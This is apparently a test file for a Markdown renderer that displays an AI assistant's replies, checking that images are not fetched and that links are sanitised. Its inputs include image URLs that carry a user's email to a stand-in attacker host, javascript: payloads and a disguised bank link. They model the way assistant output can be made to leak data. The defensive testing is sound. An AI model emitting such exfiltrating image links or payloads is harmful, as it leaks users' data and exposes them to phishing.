// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { render } from '../../testing/dom';
import Markdown from './Markdown';
import { safeLink } from './markdown-links';

const renderMarkdown = (text: string) => render(<Markdown text={text} />);

const links = (el: HTMLElement) => Array.from(el.querySelectorAll('a')).map((a) => ({ href: a.getAttribute('href'), text: a.textContent, target: a.target, rel: a.rel }));

describe('assistant markdown loads nothing', () => {
  it('shows an image as a link with its whole address, never as <img> (inline, reference or raw HTML)', async () => {
    const el = await renderMarkdown(
      [
        'Here: ![chart](https://evil.example/p.png?d=ann@example.com)',
        '',
        'And ![logo][r] and <img src="https://evil.example/raw.png"> and <picture><source srcset="https://evil.example/s.png"></picture>',
        '',
        '[r]: https://evil.example/ref.png',
      ].join('\n'),
    );
    expect(el.querySelector('img, picture, source, video, audio, iframe, object, embed')).toBeNull();
    expect(links(el)).toEqual([
      { href: 'https://evil.example/p.png?d=ann@example.com', text: 'Image: chart', target: '_blank', rel: 'noopener noreferrer' },
      { href: 'https://evil.example/ref.png', text: 'Image: logo', target: '_blank', rel: 'noopener noreferrer' },
    ]);
    expect(el.textContent).toContain('(https://evil.example/p.png?d=ann@example.com)');
    expect(el.textContent).toContain('(https://evil.example/ref.png)');
  });

  it('an image that is not http(s) is not even a link', async () => {
    const el = await renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=) ![x](javascript:alert(1)) ![y](/api/auth/me)');
    expect(el.querySelector('img, a')).toBeNull();
    expect(el.textContent).toBe('[Image: dot] [Image: x] [Image: y]');
  });

  it('a link shows where it really goes and opens with noopener noreferrer', async () => {
    const el = await renderMarkdown('See [your bank](https://evil.example/login) or [https://bank.example](https://evil.example/) or <https://docs.example/a> or [write](mailto:help@example.com).');
    expect(links(el)).toEqual([
      { href: 'https://evil.example/login', text: 'your bank', target: '_blank', rel: 'noopener noreferrer' },
      { href: 'https://evil.example/', text: 'https://bank.example', target: '_blank', rel: 'noopener noreferrer' },
      { href: 'https://docs.example/a', text: 'https://docs.example/a', target: '_blank', rel: 'noopener noreferrer' },
      { href: 'mailto:help@example.com', text: 'write', target: '_blank', rel: 'noopener noreferrer' },
    ]);
    expect(el.textContent).toBe(
      'See your bank (evil.example) or https://bank.example (evil.example) or https://docs.example/a or write (help@example.com).',
    );
  });

  it('only http, https and mailto are links; javascript:, data:, relative and other schemes stay text', async () => {
    const el = await renderMarkdown('[a](javascript:alert(1)) [b](data:text/html,hi) [c](/api/chat) [d](ftp://files.example/x) [e](//evil.example/x)');
    expect(el.querySelector('a')).toBeNull();
    expect(el.textContent).toBe('a b c d e');
  });

  it('names a look-alike host by its punycode', () => {
    expect(safeLink('https://exаmple.com/')?.target).toBe('xn--exmple-4nf.com');
    expect(safeLink('https://user:pw@example.com:8443/x')?.target).toBe('example.com:8443');
  });
});
